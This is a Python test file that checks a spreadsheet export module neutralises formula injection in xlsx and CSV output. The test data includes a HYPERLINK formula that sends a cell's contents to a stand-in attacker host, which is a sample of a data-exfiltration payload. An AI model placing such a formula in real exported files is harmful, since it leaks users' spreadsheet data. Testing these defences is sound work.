import csv
import io

from openpyxl import Workbook, load_workbook

from balai.core.spreadsheet import csv_text, xlsx_row

EVIL = '=HYPERLINK("http://jahat.example/?"&A1,"klik")'


def test_xlsx_row_keeps_formula_like_text_as_text():
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("a")
    ws.append(xlsx_row(ws, [EVIL, "Budi", 12, None]))
    buf = io.BytesIO()
    wb.save(buf)
    buf.seek(0)
    cell = load_workbook(buf)["a"]["A1"]
    assert cell.data_type == "s" and cell.value == EVIL


def test_csv_text_defuses_formulas_only():
    assert csv_text(EVIL) == "'" + EVIL
    assert csv_text("+62 812") == "'+62 812"
    assert csv_text("-") == "-" and csv_text("Budi") == "Budi" and csv_text(5) == 5
    out = io.StringIO()
    csv.writer(out).writerow([csv_text(EVIL)])
    assert out.getvalue().startswith("\"'=HYPERLINK")
